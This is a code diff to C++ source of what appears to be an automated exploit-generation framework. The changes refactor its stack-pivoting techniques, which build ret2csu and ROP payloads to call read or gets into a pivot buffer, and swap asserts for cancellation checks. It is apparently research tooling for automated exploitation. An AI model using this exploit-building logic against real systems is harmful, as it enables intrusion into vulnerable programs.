@@ -66,16 +66,16 @@ std::vector<RopPayload> BasicStackPivoting::getRopPayloadList() const {
     if (elf.hasSymbol("read")) {
         part1 = ret2csu->getRopPayloadList(
                 BaseOffsetExpr::create<BaseType::SYM>(elf, "read"),
-                ConstantExpr::create(0, Expr::Int64),
+                createInt64Constant(0),
                 BaseOffsetExpr::create<BaseType::VAR>(elf, "pivot_dest"),
-                ConstantExpr::create(1024, Expr::Int64))[0];
+                createInt64Constant(1024))[0];
 
     } else if (elf.hasSymbol("gets")) {
         part1 = ret2csu->getRopPayloadList(
                 BaseOffsetExpr::create<BaseType::SYM>(elf, "gets"),
                 BaseOffsetExpr::create<BaseType::VAR>(elf, "pivot_dest"),
-                ConstantExpr::create(0, Expr::Int64),
-                ConstantExpr::create(0, Expr::Int64))[0];
+                createInt64Constant(0),
+                createInt64Constant(0))[0];
     }
 
     // Perform stack pivoting.
@@ -87,14 +87,14 @@ std::vector<RopPayload> BasicStackPivoting::getRopPayloadList() const {
 
     RopPayload ret;
     ret.reserve(1 + part1.size() + part2.size());
-    ret.push_back(ConstantExpr::create(0, Expr::Int64));  // RBP
+    ret.push_back(createInt64Constant(0));  // RBP
     ret.insert(ret.end(), part1.begin(), part1.end());
     ret.insert(ret.end(), part2.begin(), part2.end());
     return { ret };
 }
 
 RopPayload BasicStackPivoting::getExtraRopPayload() const {
-    return { ConstantExpr::create(0, Expr::Int64) };  // RBP
+    return { createInt64Constant(0) };  // RBP
 }
 
 
@@ -131,8 +131,9 @@ bool AdvancedStackPivoting::checkRequirements() const {
 }
 
 std::vector<RopPayload> AdvancedStackPivoting::getRopPayloadList() const {
-    assert(m_readCallSites.size() &&
-           "AdvancedStackPivoting requires at least one call site of read@libc");
+    if (m_readCallSites.empty()) {
+        cancel("requires at least one call site of read@libc");
+    }
 
     const Exploit &exploit = g_crax->getExploit();
     const ELF &elf = exploit.getElf();
@@ -154,12 +155,12 @@ std::vector<RopPayload> AdvancedStackPivoting::getRopPayloadList() const {
         ref<Expr> e1 = AddExpr::alloc(
                 BaseOffsetExpr::create<BaseType::VAR>(elf, "pivot_dest"),
                 AddExpr::alloc(
-                        ConstantExpr::create(8, Expr::Int64),
+                        createInt64Constant(8),
                         MulExpr::alloc(
-                                ConstantExpr::create(0x30, Expr::Int64),
-                                ConstantExpr::create(i + 1, Expr::Int64))));
+                                createInt64Constant(0x30),
+                                createInt64Constant(i + 1))));
 
-        ref<Expr> e2 = ConstantExpr::create(0, Expr::Int64);
+        ref<Expr> e2 = createInt64Constant(0);
         ref<Expr> e3 = BaseOffsetExpr::create<BaseType::SYM>(elf, "read");
 
         part1.push_back(e0);
@@ -182,13 +183,13 @@ std::vector<RopPayload> AdvancedStackPivoting::getRopPayloadList() const {
     // read(0, target_base + pivot_dest + 0x30 * 7, 0x400).
     RopPayload part2 = ret2csu->getRopPayloadList(
             BaseOffsetExpr::create<BaseType::SYM>(elf, "read"),
-            ConstantExpr::create(0, Expr::Int64),
+            createInt64Constant(0),
             AddExpr::alloc(
                     BaseOffsetExpr::create<BaseType::VAR>(elf, "pivot_dest"),
                     MulExpr::alloc(
-                            ConstantExpr::create(0x30, Expr::Int64),
-                            ConstantExpr::create(7, Expr::Int64))),
-            ConstantExpr::create(0x400, Expr::Int64))[0];
+                            createInt64Constant(0x30),
+                            createInt64Constant(7))),
+            createInt64Constant(0x400))[0];
 
 
     // Symbolic ROP payload
@@ -209,13 +210,29 @@ std::vector<RopPayload> AdvancedStackPivoting::getRopPayloadList() const {
     return ret;
 }
 
+std::vector<uint64_t>
+AdvancedStackPivoting::getReadLengthList(const std::vector<RopPayload> &ropPayloadList) const {
+    if (m_readCallSites.empty() || ropPayloadList.empty()) {
+        return {};
+    }
+
+    // ropPayloadList[0] is the symbolic ROP payload. Each of the direct ROP
+    // payloads is consumed by read@plt, whose RDX still holds the length
+    // passed at the intercepted call site. The chain has no gadget to set
+    // RDX, so the payloads are only coalesced if that length happens to be
+    // exactly the size of a payload (0x30), and are sent one by one otherwise.
+    std::vector<uint64_t> ret(ropPayloadList.size(), m_readCallSites.rbegin()->len);
+    ret[0] = 0;
+    return ret;
+}
+
 
 void AdvancedStackPivoting::maybeInterceptReadCallSites(S2EExecutionState *state,
                                                         const Instruction &i) {
     const Exploit &exploit = g_crax->getExploit();
     const ELF &elf = exploit.getElf();
 
-    if (elf.isCallSiteOf(i, "read")) {
+    if (elf.isCallSiteOf(i, "read", g_crax->getElfBase(state))) {
         uint64_t buf = reg().readConcrete(Register::X64::RSI);
         uint64_t len = reg().readConcrete(Register::X64::RDX);
         m_readCallSites.insert({i.address, buf, len});
@@ -223,8 +240,12 @@ void AdvancedStackPivoting::maybeInterceptReadCallSites(S2EExecutionState *state
 }
 
 void AdvancedStackPivoting::beforeExploitGeneration(S2EExecutionState *state) {
-    assert(m_readCallSites.size() &&
-           "AdvancedStackPivoting requires at least one call site of read().");
+    // The exploit generator isn't running yet, so we cannot cancel it from here.
+    // checkRequirements() will reject this technique later.
+    if (m_readCallSites.empty()) {
+        log<WARN>() << "AdvancedStackPivoting requires at least one call site of read().\n";
+        return;
+    }
 
     uint64_t rsp = reg().readConcrete(Register::X64::RSP);
     m_offsetToRetAddr = rsp - (*m_readCallSites.rbegin()).buf - 16;
@@ -246,15 +267,19 @@ void AdvancedStackPivoting::initDynamicRopConstraintsOnce() const {
         return;
     }
 
-    modState->initialized = true;
-
     // Resolve ret2LeaRbp.
     int rbpOffset = 0;
     uint64_t ret2LeaRbp = determineRetAddr((*m_readCallSites.rbegin()).address, rbpOffset);
+
+    if (!ret2LeaRbp) {
+        cancel("cannot find any `lea reg, [rbp - offset]` before the call site of read()");
+    }
+
+    modState->initialized = true;
     uint64_t pivotDest = exploit.getElf().getBase() + exploit.getSymbolValue("pivot_dest");
 
-    ref<Expr> rbp1 = ConstantExpr::create(pivotDest, Expr::Int64);
-    ref<Expr> rip1 = ConstantExpr::create(ret2LeaRbp, Expr::Int64);
+    ref<Expr> rbp1 = createInt64Constant(pivotDest);
+    ref<Expr> rip1 = createInt64Constant(ret2LeaRbp);
 
     using RegisterConstraint = DynamicRop::RegisterConstraint;
 
@@ -262,8 +287,8 @@ void AdvancedStackPivoting::initDynamicRopConstraintsOnce() const {
         .addConstraint(std::make_shared<RegisterConstraint>(Register::X64::RIP, rip1))
         .commitConstraints();
 
-    ref<Expr> rbp2 = ConstantExpr::create(pivotDest + 8 + rbpOffset, Expr::Int64);
-    ref<Expr> rip2 = ConstantExpr::create(ret2LeaRbp, Expr::Int64);
+    ref<Expr> rbp2 = createInt64Constant(pivotDest + 8 + rbpOffset);
+    ref<Expr> rip2 = createInt64Constant(ret2LeaRbp);
 
     dynRop.addConstraint(std::make_shared<RegisterConstraint>(Register::X64::RBP, rbp2))
         .addConstraint(std::make_shared<RegisterConstraint>(Register::X64::RIP, rip2))
@@ -323,7 +348,6 @@ uint64_t AdvancedStackPivoting::determineRetAddr(uint64_t readCallSiteAddr,
         break;
     }
 
-    assert(ret && "determineRetAddr(): no suitable candidates?");
     return ret;
 }
 